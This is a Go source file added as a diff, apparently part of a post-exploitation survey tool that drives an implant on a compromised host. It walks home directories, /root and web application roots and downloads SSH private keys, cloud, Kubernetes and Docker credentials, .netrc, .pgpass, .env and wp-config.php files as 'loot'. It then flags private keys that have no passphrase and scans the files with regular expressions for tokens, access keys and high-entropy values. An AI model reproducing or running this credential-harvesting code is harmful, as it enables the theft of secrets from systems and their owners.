@@ -0,0 +1,462 @@
+package main
+
+import (
+	"bytes"
+	"encoding/binary"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"math"
+	"os"
+	"path"
+	"path/filepath"
+	"regexp"
+	"sort"
+	"strings"
+	"unicode"
+
+	"common"
+	"github.com/jedib0t/go-pretty/v6/table"
+)
+
+// the directories outside of the home directories where applications keep their config
+var defaultSecretRoots = []string{"/opt", "/srv", "/var/www"}
+
+// how many levels below a -secret-roots directory are searched
+const secretRootDepth = 2
+
+// files bigger than this are not credential files and are not worth scanning
+const maxSecretFileSize = 1 << 20
+
+// the credential files looked for in every home directory, a glob in the last part of the path
+// matches against the listing of its directory
+var homeCredentialFiles = []struct {
+	pattern string
+	kind    string
+}{
+	{".ssh/*", "ssh"},
+	{".aws/credentials", "aws"},
+	{".aws/config", "aws"},
+	{".kube/config", "kubernetes"},
+	{".docker/config.json", "docker registry"},
+	{".git-credentials", "git"},
+	{".netrc", "netrc"},
+	{".pgpass", "postgres"},
+	{".my.cnf", "mysql"},
+	{".config/gcloud/application_default_credentials.json", "gcloud"},
+	{".config/gcloud/credentials.db", "gcloud"},
+	{".config/gcloud/access_tokens.db", "gcloud"},
+	{".azure/accessTokens.json", "azure"},
+	{".azure/msal_token_cache.json", "azure"},
+	{".config/doctl/config.yaml", "digitalocean"},
+	{".oci/config", "oracle cloud"},
+	{".env", "dotenv"},
+	{".env.*", "dotenv"},
+}
+
+// the files looked for under the application roots
+var appCredentialFiles = []struct {
+	pattern string
+	kind    string
+}{
+	{".env", "dotenv"},
+	{".env.*", "dotenv"},
+	{"*.env", "dotenv"},
+	{"wp-config.php", "wordpress"},
+	{".htpasswd", "htpasswd"},
+	{"database.yml", "rails"},
+	{".git-credentials", "git"},
+	{".netrc", "netrc"},
+	{".pgpass", "postgres"},
+	{".my.cnf", "mysql"},
+}
+
+// directories under the application roots that hold code someone else wrote, never config
+var skippedAppDirs = map[string]bool{"node_modules": true, ".git": true, "vendor": true, "site-packages": true, "__pycache__": true}
+
+// files in .ssh that are not keys
+var sshNotKeys = map[string]bool{"known_hosts": true, "known_hosts.old": true, "config": true, "environment": true}
+
+// secretRule is a pattern of a well known secret, group is the part of the match that is the secret
+type secretRule struct {
+	kind  string
+	match *regexp.Regexp
+	group int
+}
+
+// the patterns of secrets with a recognisable shape
+var secretRules = []secretRule{
+	{"private key", regexp.MustCompile(`-----BEGIN ((RSA|DSA|EC|OPENSSH|ENCRYPTED|PGP) )?PRIVATE KEY( BLOCK)?-----`), 0},
+	{"aws access key", regexp.MustCompile(`\b((AKIA|ASIA)[0-9A-Z]{16})\b`), 1},
+	{"aws secret key", regexp.MustCompile(`(?i)aws_secret_access_key\s*[=:]\s*["']?([A-Za-z0-9/+=]{40})`), 1},
+	{"github token", regexp.MustCompile(`\b((ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9]{36}|github_pat_[A-Za-z0-9_]{60,})\b`), 1},
+	{"gitlab token", regexp.MustCompile(`\b(glpat-[A-Za-z0-9_-]{20})\b`), 1},
+	{"slack token", regexp.MustCompile(`\b(xox[abprs]-[A-Za-z0-9-]{10,})`), 1},
+	{"google api key", regexp.MustCompile(`\b(AIza[0-9A-Za-z_-]{35})`), 1},
+	{"jwt", regexp.MustCompile(`\b(eyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,})`), 1},
+	{"url with credentials", regexp.MustCompile(`\b[a-z][a-z0-9+.-]*://[^/\s:@"']+:([^/\s@"']+)@[^\s/"']+`), 1},
+	{"docker registry auth", regexp.MustCompile(`"auth"\s*:\s*"([A-Za-z0-9+/=]{8,})"`), 1},
+}
+
+// a value given to a key that names it a secret i.e. DB_PASSWORD=hunter22
+var secretAssignment = regexp.MustCompile(`(?i)([\w.-]*(passw(or)?d|passwd|pwd|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credential)[\w.-]*)["']?\s*[:=]\s*["']?([^\s"',;]{6,})`)
+
+// a value given to any key, checked for how random it looks
+var anyAssignment = regexp.MustCompile(`([\w.-]+)["']?\s*[:=]\s*["']?([A-Za-z0-9+/=_-]{20,})["']?`)
+
+// values that fill in a secret rather than being one
+var secretPlaceholders = map[string]bool{
+	"null": true, "none": true, "true": true, "false": true, "undefined": true, "changeme!": true,
+	"password": true, "required": true, "optional": true, "example": true, "xxxxxx": true,
+}
+
+// secretFinding is a likely secret in a collected file
+type secretFinding struct {
+	file  string
+	line  int
+	kind  string
+	value string
+	// the value marks where a secret is i.e. the header of a private key, it is not one itself
+	marker bool
+}
+
+// credentialFile is a file collected because of what it is
+type credentialFile struct {
+	path string
+	kind string
+	size int64
+}
+
+// Function to collect a credential file unless it is too big to be one
+func (s *survey) collectCredential(remotePath string, kind string, collected *[]credentialFile) error {
+	if kind == "ssh" && (sshNotKeys[path.Base(remotePath)] || strings.HasSuffix(remotePath, ".pub")) {
+		return nil
+	}
+	fi := s.lookupListed(remotePath)
+	if fi != nil && fi.Size > maxSecretFileSize {
+		fmt.Printf("[-] Skipping %s, %d bytes is too big for a credential file\n", remotePath, fi.Size)
+		return nil
+	}
+	data, err := s.fetchLoot(remotePath)
+	if errors.Is(err, common.ErrSessionGone) {
+		return err
+	}
+	if data != nil {
+		*collected = append(*collected, credentialFile{path: remotePath, kind: kind, size: int64(len(data))})
+	}
+	return nil
+}
+
+// Function to collect the credential files of the home directories: ssh keys and authorized_keys,
+// cloud, kubernetes and docker credentials, .netrc, .pgpass, .my.cnf, .git-credentials and .env
+//
+// :param: privileged bool -> true for the home directories only root should touch i.e. /root,
+// false for every other one
+// :return: error -> if the session went away, files that can not be read are reported and skipped
+func (s *survey) homeCredentials(privileged bool) error {
+	if privileged {
+		makeBorder("Credential Files /root")
+	} else {
+		makeBorder("Credential Files")
+	}
+	homes, err := s.readableHomes(privileged)
+	if err != nil {
+		printRPCError(err, "/home")
+		return err
+	}
+	var collected []credentialFile
+	for _, home := range homes {
+		for _, credential := range homeCredentialFiles {
+			found, err := s.findHomeFiles(home.path, credential.pattern)
+			if err != nil {
+				return err
+			}
+			for _, remotePath := range found {
+				if err := s.collectCredential(remotePath, credential.kind, &collected); err != nil {
+					return err
+				}
+			}
+		}
+	}
+	if !privileged {
+		if err := s.appCredentials(&collected); err != nil {
+			return err
+		}
+	}
+	printCredentialFiles(s.fileTag, collected)
+	return nil
+}
+
+// Function to search the application roots for .env files and other config that holds credentials
+func (s *survey) appCredentials(collected *[]credentialFile) error {
+	type pending struct {
+		dir   string
+		depth int
+	}
+	var queue []pending
+	for _, root := range s.secretRoots {
+		queue = append(queue, pending{dir: root})
+	}
+	for len(queue) > 0 {
+		next := queue[0]
+		queue = queue[1:]
+		files, err := s.listDir(next.dir)
+		if errors.Is(err, common.ErrSessionGone) {
+			return err
+		}
+		for _, fi := range files {
+			if strings.HasPrefix(fi.Mode, "L") {
+				continue
+			}
+			if fi.IsDir {
+				if next.depth < secretRootDepth && !skippedAppDirs[fi.Name] {
+					queue = append(queue, pending{dir: path.Join(next.dir, fi.Name), depth: next.depth + 1})
+				}
+				continue
+			}
+			for _, credential := range appCredentialFiles {
+				if matched, _ := path.Match(credential.pattern, fi.Name); matched {
+					if err := s.collectCredential(path.Join(next.dir, fi.Name), credential.kind, collected); err != nil {
+						return err
+					}
+					break
+				}
+			}
+		}
+	}
+	return nil
+}
+
+// Function to print the credential files that were collected, with what the keys among them are
+func printCredentialFiles(fileTag string, collected []credentialFile) {
+	if len(collected) == 0 {
+		fmt.Println("[*] No credential files found")
+		return
+	}
+	tw := table.NewWriter()
+	tw.AppendHeader(table.Row{"Path", "Kind", "Size", "Note"})
+	for _, file := range collected {
+		data, _ := os.ReadFile(filepath.Join(fileTag, file.path))
+		note := ""
+		switch {
+		case bytes.Contains(data, []byte("PRIVATE KEY-----")):
+			encrypted, known := privateKeyEncrypted(data)
+			note = "private key, encrypted"
+			if !known {
+				note = "private key"
+			} else if !encrypted {
+				note = "private key, no passphrase"
+			}
+		case path.Base(file.path) == "authorized_keys" || path.Base(file.path) == "authorized_keys2":
+			note = describeAuthorizedKeys(string(data))
+		}
+		tw.AppendRow(table.Row{file.path, file.kind, file.size, note})
+	}
+	fmt.Printf("%s\n", tw.Render())
+	for _, file := range collected {
+		data, _ := os.ReadFile(filepath.Join(fileTag, file.path))
+		if encrypted, known := privateKeyEncrypted(data); known && !encrypted {
+			fmt.Printf("[!] %s is a private key without a passphrase\n", file.path)
+		}
+	}
+	fmt.Printf("[*] Collected %d credential files\n", len(collected))
+}
+
+// Function to determine if a private key is protected by a passphrase, from the PEM headers or
+// the cipher name of an OpenSSH key
+//
+// :param: data []byte -> the key file
+// :return: bool -> true if the key is encrypted
+// :return: bool -> false if the file is not a key this can tell about
+func privateKeyEncrypted(data []byte) (bool, bool) {
+	block, _ := pem.Decode(data)
+	if block == nil || !strings.HasSuffix(block.Type, "PRIVATE KEY") {
+		return false, false
+	}
+	switch block.Type {
+	case "ENCRYPTED PRIVATE KEY":
+		return true, true
+	case "OPENSSH PRIVATE KEY":
+		// "openssh-key-v1\0" then the cipher name as a length prefixed string, "none" when it is not encrypted
+		magic := []byte("openssh-key-v1\x00")
+		rest := block.Bytes
+		if !bytes.HasPrefix(rest, magic) || len(rest) < len(magic)+4 {
+			return false, false
+		}
+		rest = rest[len(magic):]
+		length := binary.BigEndian.Uint32(rest)
+		if uint32(len(rest)-4) < length {
+			return false, false
+		}
+		return string(rest[4:4+length]) != "none", true
+	}
+	return block.Headers["Proc-Type"] == "4,ENCRYPTED", true
+}
+
+// Function to describe an authorized_keys file by how many keys it holds and who they belong to
+func describeAuthorizedKeys(data string) string {
+	var comments []string
+	keys := 0
+	for _, line := range configLines(data) {
+		fields := strings.Fields(line)
+		// options come before the key type i.e. command="..." ssh-ed25519 AAAA... comment
+		for i, field := range fields {
+			if strings.HasPrefix(field, "ssh-") || strings.HasPrefix(field, "ecdsa-") || strings.HasPrefix(field, "sk-") {
+				keys++
+				if i+2 < len(fields) {
+					comments = append(comments, strings.Join(fields[i+2:], " "))
+				}
+				break
+			}
+		}
+	}
+	note := fmt.Sprintf("%d keys", keys)
+	if len(comments) > 0 {
+		note += " (" + strings.Join(comments, ", ") + ")"
+	}
+	return note
+}
+
+// Function to measure how random a string looks, in bits per character
+func shannonEntropy(value string) float64 {
+	counts := map[rune]int{}
+	for _, r := range value {
+		counts[r]++
+	}
+	entropy := 0.0
+	for _, count := range counts {
+		p := float64(count) / float64(len(value))
+		entropy -= p * math.Log2(p)
+	}
+	return entropy
+}
+
+// Function to determine if a value looks like a generated secret: random enough, with both letters
+// and digits, and not hex which is far more often a checksum or an id than a secret
+func looksRandom(value string) bool {
+	if shannonEntropy(value) < 4.0 || strings.Trim(strings.ToLower(value), "0123456789abcdef") == "" {
+		return false
+	}
+	return strings.ContainsAny(value, "0123456789") && strings.IndexFunc(value, unicode.IsLetter) >= 0
+}
+
+// a name in capitals i.e. a sudoers alias after NOPASSWD: or an environment variable
+var referenceName = regexp.MustCompile(`^[A-Z][A-Z0-9_]*$`)
+
+// Function to determine if an assigned value is a placeholder, a path or a reference to somewhere
+// else rather than a secret
+func placeholderSecret(value string) bool {
+	lower := strings.ToLower(value)
+	return secretPlaceholders[lower] || strings.ContainsAny(value[:1], "/$%{<(*") || strings.Trim(lower, "x*.") == "" || referenceName.MatchString(value)
+}
+
+// Function to mask a secret for the terminal, enough is left to tell secrets apart while the
+// whole of it stays in the loot
+func maskSecret(value string) string {
+	if len(value) <= 8 {
+		return strings.Repeat("*", len(value))
+	}
+	return value[:4] + strings.Repeat("*", len(value)-6) + value[len(value)-2:]
+}
+
+// Function to scan text for likely secrets: the shapes of well known keys and tokens, values of
+// keys named like a secret, and random looking values of any key
+//
+// :param: file string -> the path of the file on the target, for the findings
+// :param: data string -> the text to scan
+// :return: []secretFinding -> one finding per secret per line
+func scanSecrets(file string, data string) []secretFinding {
+	var findings []secretFinding
+	for number, line := range strings.Split(data, "\n") {
+		found := map[string]bool{}
+		add := func(kind string, value string, marker bool) {
+			if !found[value] {
+				found[value] = true
+				findings = append(findings, secretFinding{file: file, line: number + 1, kind: kind, value: value, marker: marker})
+			}
+		}
+		for _, rule := range secretRules {
+			for _, match := range rule.match.FindAllStringSubmatch(line, -1) {
+				add(rule.kind, match[rule.group], rule.group == 0)
+			}
+		}
+		for _, match := range secretAssignment.FindAllStringSubmatch(line, -1) {
+			if value := match[4]; !placeholderSecret(value) {
+				add(match[1], value, false)
+			}
+		}
+		for _, match := range anyAssignment.FindAllStringSubmatch(line, -1) {
+			if value := match[2]; looksRandom(value) && !placeholderSecret(value) {
+				add("high entropy value of "+match[1], value, false)
+			}
+		}
+	}
+	return findings
+}
+
+// Function to scan every text file the survey collected for likely secrets, read from the loot
+// directory so nothing is sent to the implant
+//
+// :param: fileTag string -> the loot directory of the target
+// :return: error -> if the loot directory could not be walked
+func secretScan(fileTag string) error {
+	makeBorder("Secret Scan")
+	var findings []secretFinding
+	scanned := 0
+	err := filepath.Walk(fileTag, func(file string, info os.FileInfo, err error) error {
+		if err != nil || info.IsDir() {
+			return err
+		}
+		rel, _ := filepath.Rel(fileTag, file)
+		rel = filepath.ToSlash(rel)
+		if isBookkeeping(rel) || info.Size() > maxSecretFileSize {
+			return nil
+		}
+		data, err := os.ReadFile(file)
+		// a nul byte is as good a sign as any that the file is not text
+		if err != nil || bytes.IndexByte(data, 0) >= 0 {
+			return nil
+		}
+		scanned++
+		findings = append(findings, scanSecrets("/"+rel, string(data))...)
+		return nil
+	})
+	if os.IsNotExist(err) {
+		fmt.Println("[-] Nothing has been collected to scan")
+		return nil
+	}
+	if err != nil {
+		return err
+	}
+	sort.SliceStable(findings, func(i, j int) bool { return findings[i].file < findings[j].file })
+	if len(findings) > 0 {
+		tw := table.NewWriter()
+		tw.AppendHeader(table.Row{"File", "Line", "Kind", "Value"})
+		for _, finding := range findings {
+			value := finding.value
+			if !finding.marker {
+				value = maskSecret(value)
+			}
+			tw.AppendRow(table.Row{finding.file, finding.line, finding.kind, value})
+		}
+		fmt.Printf("%s\n", tw.Render())
+	}
+	fmt.Printf("[*] Scanned %d files, %d likely secrets, the values are in the loot directory\n", scanned, len(findings))
+	return nil
+}
+
+// Function to plan collecting the credential files of the home directories, which ones depends
+// on /etc/passwd so every listing and download is dynamic
+func (s *survey) planCredentials(privileged bool) []plannedRPC {
+	homes := planHomes
+	if privileged {
+		homes = "/root"
+	}
+	rpcs := []plannedRPC{planLs(homes, true), planLs(homes+"/.*", true), planDownload(homes+"/.*", true)}
+	if !privileged {
+		for _, root := range s.secretRoots {
+			rpcs = append(rpcs, planLs(root, false), planLs(root+"/*", true), planDownload(root+"/*", true))
+		}
+	}
+	return rpcs
+}